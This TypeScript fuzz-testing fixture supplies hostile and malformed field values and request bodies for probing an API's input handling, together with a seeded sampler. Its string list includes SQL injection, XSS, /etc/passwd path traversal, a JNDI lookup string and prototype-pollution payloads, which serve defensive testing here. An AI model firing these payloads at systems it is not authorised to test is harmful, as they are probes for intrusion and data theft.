/**
 * Hostile and malformed values for one field. `MISSING` means: leave the field out. Strings are
 * what a query string or path can carry; the rest only fit a JSON body.
 */
export const MISSING = Symbol('missing');

const deepArray = (depth: number): unknown => {
  let v: unknown = 'x';
  for (let i = 0; i < depth; i++) v = [v];
  return v;
};

export const STRING_CORPUS: string[] = [
  '',
  'x'.repeat(1_000_000),
  '\u0000',
  'a\u0000b',
  '\u0001\u0008\u001b\u001f\u007f\u0085\u2028',
  '\ud800',
  'x\udfffy',
  '2027-02-30',
  '9999-99-99',
  '-1',
  '1e309',
  '99999999999999999999999',
  'NaN',
  'not-a-uuid',
  '00000000-0000-0000-0000-000000000000',
  "' OR '1'='1'; --",
  '<img src=x onerror=alert(1)>',
  '../../../../etc/passwd',
  '%00%ff%c0%af',
  '${jndi:ldap://example.invalid/a}',
  '\ufdfd'.repeat(2_000),
  '__proto__',
];

export const JSON_ONLY_CORPUS: unknown[] = [
  MISSING,
  null,
  true,
  0,
  -1,
  1.5,
  -(2 ** 53) - 2,
  1e308,
  [],
  ['a', 1, null],
  {},
  { $gt: '' },
  deepArray(60),
];

/** Whole bodies that are not what any endpoint expects (sent as raw text with the given type). */
export const BODY_CORPUS: Array<{ label: string; payload: string; contentType: string }> = [
  { label: 'null', payload: 'null', contentType: 'application/json' },
  { label: 'an array', payload: '[]', contentType: 'application/json' },
  { label: 'a string', payload: '"text"', contentType: 'application/json' },
  { label: 'a number', payload: '123', contentType: 'application/json' },
  { label: 'invalid JSON', payload: '{"a":', contentType: 'application/json' },
  { label: 'an empty body', payload: '', contentType: 'application/json' },
  { label: 'JSON nested 100,000 deep', payload: `{"a":${'['.repeat(100_000)}${']'.repeat(100_000)}}`, contentType: 'application/json' },
  {
    label: 'a prototype key',
    payload: '{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}',
    contentType: 'application/json',
  },
  { label: 'plain text', payload: 'hello', contentType: 'text/plain' },
  { label: 'a form', payload: 'a=1&b=2', contentType: 'application/x-www-form-urlencoded' },
  {
    label: 'multipart',
    payload: '--b\r\nContent-Disposition: form-data; name="a"\r\n\r\n1\r\n--b--\r\n',
    contentType: 'multipart/form-data; boundary=b',
  },
  { label: 'broken multipart', payload: '--b\r\nnot a header\r\n\r\n', contentType: 'multipart/form-data; boundary=b' },
];

/** A small deterministic generator (mulberry32), so a failing run can be repeated exactly. */
export function seededRandom(seedText: string): () => number {
  let seed = 0;
  for (const ch of seedText) seed = (Math.imul(seed, 31) + ch.charCodeAt(0)) | 0;
  return () => {
    seed = (seed + 0x6d2b79f5) | 0;
    let t = seed;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4_294_967_296;
  };
}

/**
 * The values tried for one field: the ones that broke the database before (NUL, lone surrogates,
 * impossible dates, huge strings) every time, plus `extra` more drawn from the rest by the seed.
 */
export function sampleCorpus<T>(all: T[], always: number, extra: number, seedText: string): T[] {
  const rest = all.slice(always);
  const random = seededRandom(seedText);
  const picked: T[] = [];
  while (picked.length < Math.min(extra, rest.length)) {
    const candidate = rest[Math.floor(random() * rest.length)]!;
    if (!picked.includes(candidate)) picked.push(candidate);
  }
  return [...all.slice(0, always), ...picked];
}
